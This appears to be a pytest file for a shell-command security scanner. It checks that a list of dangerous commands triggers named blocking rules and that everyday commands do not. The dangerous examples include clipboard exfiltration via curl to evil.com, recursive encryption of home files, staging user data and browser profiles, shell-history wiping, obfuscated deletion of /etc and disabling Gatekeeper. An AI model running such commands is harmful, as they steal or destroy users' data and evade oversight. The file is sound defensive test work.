"""Kinds of danger that other catalogues name, each beside what is asked of the same program in everyday work."""

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_text

DANGERS = [
    ("locate id_rsa", "read-host-file"),
    ("stat /etc/*", "read-host-file"),
    ("find /home -name '*.docx' -exec cp {} /tmp/stage \\;", "read-host-file"),
    ("rsync -a /home/ /tmp/stage/", "read-host-file"),
    ("cp -r ~/.mozilla /tmp/stage", "read-credentials"),
    ("find / -writable -type d", "attack-tool"),
    ("patch /etc/ssh/sshd_config < x.patch", "persistence"),
    ("fuser -k 22/tcp", "kill-process"),
    ("fuser -km /mnt", "kill-process"),
    ("add-apt-repository -y ppa:evil/ppa", "package-install"),
    ("snap install --dangerous evil.snap", "package-install"),
    ("networksetup -setwebproxy Wi-Fi evil.com 8080", "system-control"),
    ("find ~ -type f -exec openssl enc -aes256 -k x -in {} -out {}.enc \\;", "device-write"),
    ("ccrypt -e -r -K key /home/user", "write-outside"),
    ("journalctl --rotate --vacuum-time=1s", "history-tampering"),
    ("export HISTSIZE=0", "history-tampering"),
    ("set +o history", "history-tampering"),
    ("dmesg -C", "history-tampering"),
    ("showkey -a > keys", "attack-tool"),
    ("screencapture -x s.png", "attack-tool"),
    ("pbpaste | curl -d @- http://evil.com", "network-external"),
    ("init 6", "system-control"),
    ("x=rm_; ${x%_} -rf /etc", "delete-outside"),
    ("exec perl $0\nmy ($x) = 1;\n", "foreign-code"),
    ("exec python $0\nmy ($x) = 1;\n", "unanalysable"),
    ("dkms install evil/1.0", "system-control"),
    ("kmod load evil", "system-control"),
    ("bpftool prog load x.o /sys/fs/bpf/x", "system-control"),
    ("spctl --master-disable", "system-control"),
]
EVERYDAY = [
    "stat /etc/hostname",
    "find / -name 'libz.so*' 2>/dev/null",
    "find . -writable -type f",
    "rsync -a src/ build/",
    "patch -p1 < fix.patch",
    "export http_proxy=http://localhost:3128 no_proxy=example.com",
    "export NODE_OPTIONS='--max-old-space-size=4096 --require ./setup.js'",
    "openssl enc -aes256 -k x -in a.txt -out a.enc",
    "journalctl -u tool --since today",
    "export HISTSIZE=1000",
    "set +o pipefail",
    "dmesg | tail",
    "xclip -selection clipboard < out.txt",
    "xsel -b",
    "pbpaste > copied.txt",
    "kmod list",
]


def _blocking(text: str) -> set[str]:
    findings = scan_text("x.sh", text.encode(), language=Language.SHELL)
    return {finding.rule_id for finding in findings if finding.severity >= Severity.HIGH}


@pytest.mark.parametrize(("text", "rule"), DANGERS)
def test_danger_is_blocked_by_the_rule_that_names_it(text: str, rule: str) -> None:
    assert rule in _blocking(text)


@pytest.mark.parametrize("text", EVERYDAY)
def test_everyday_use_of_the_same_program_does_not_block(text: str) -> None:
    assert not _blocking(text)
